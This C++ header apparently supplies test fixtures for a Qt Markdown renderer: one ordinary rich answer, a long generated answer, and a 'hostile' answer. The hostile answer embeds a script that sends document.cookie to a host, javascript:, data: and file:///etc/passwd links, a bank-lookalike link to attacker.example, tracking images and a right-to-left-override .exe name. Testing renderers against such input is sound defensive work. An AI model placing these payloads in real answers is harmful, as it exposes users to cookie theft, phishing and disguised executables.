#pragma once

// Answers a model might send, for the Markdown tests, the bench and the layout check: a
// rich ordinary answer and a hostile one that tries to fetch, run and disguise.
#include <QString>

namespace HostileAnswers {

// Remote images and styles point at imageHost (a local server that counts connections).
inline QString hostile(const QString &imageHost = QStringLiteral("127.0.0.1:9"))
{
    const QString http = QStringLiteral("http://") + imageHost;
    return QStringLiteral("## Your report\n\n"
                          "Here is the chart: ![chart](%1/chart.png \"tracking pixel\")\n\n"
                          "<img src=\"%1/pixel.gif\" onerror=\"alert(1)\">\n\n"
                          "<script>fetch('%1/steal?c=' + document.cookie)</script>\n\n"
                          "<link rel=\"stylesheet\" href=\"%1/style.css\">\n\n"
                          "<style>body { background: url(%1/bg.png) }</style>\n\n"
                          "- [Open the invoice](javascript:alert(document.cookie))\n"
                          "- [Your files](file:///etc/passwd)\n"
                          "- [A page](data:text/html,<script>alert(1)</script>)\n"
                          "- [https://mybank.example](https://attacker.example/login)\n"
                          "- [Documentation](https://doc.qt.io/qt-6/qtextdocument.html)\n\n"
                          "Reference image: ![logo][l]\n\n"
                          "Reversed file name: invoice\u202Egpj.exe and "
                          "pass\u200Bword with a zero-width space.\n\n"
                          "[l]: %1/logo.png\n")
        .arg(http);
}

inline QString rich()
{
    return QStringLiteral("### Three steps\n\n"
                          "1. **Prepare** the examples\n"
                          "2. *Check* them\n"
                          "3. Start the fine-tune\n\n"
                          "| Model | Answers preferred |\n"
                          "|-------|------------------:|\n"
                          "| tuned | 14 |\n"
                          "| base  | 6 |\n\n"
                          "```python\n"
                          "def greet(name):\n"
                          "    return f\"Olá, {name}!\"\n"
                          "```\n\n"
                          "> A quote, with `inline code`.\n");
}

// About tokens × 4 characters of ordinary Markdown: paragraphs, lists, code, and a table in
// every tenth section.
inline QString longAnswer(int tokens)
{
    QString out;
    int section = 0;
    while (out.size() < qsizetype(tokens) * 4) {
        ++section;
        out += QStringLiteral("## Section %1\n\nThe model learned from the examples and now "
                              "answers in the **company's tone**, with *short* sentences and "
                              "a link to [the guide](https://example.org/guide/%1).\n\n"
                              "- first point of section %1\n- second point\n- third point\n\n"
                              "```cpp\nint section = %1;\nreturn section * 2;\n```\n\n")
                   .arg(section);
        if (section % 10 == 0)
            out += QStringLiteral("| step | loss |\n|---|---|\n| %1 | 0.%1 |\n\n").arg(section);
    }
    return out;
}

} // namespace HostileAnswers
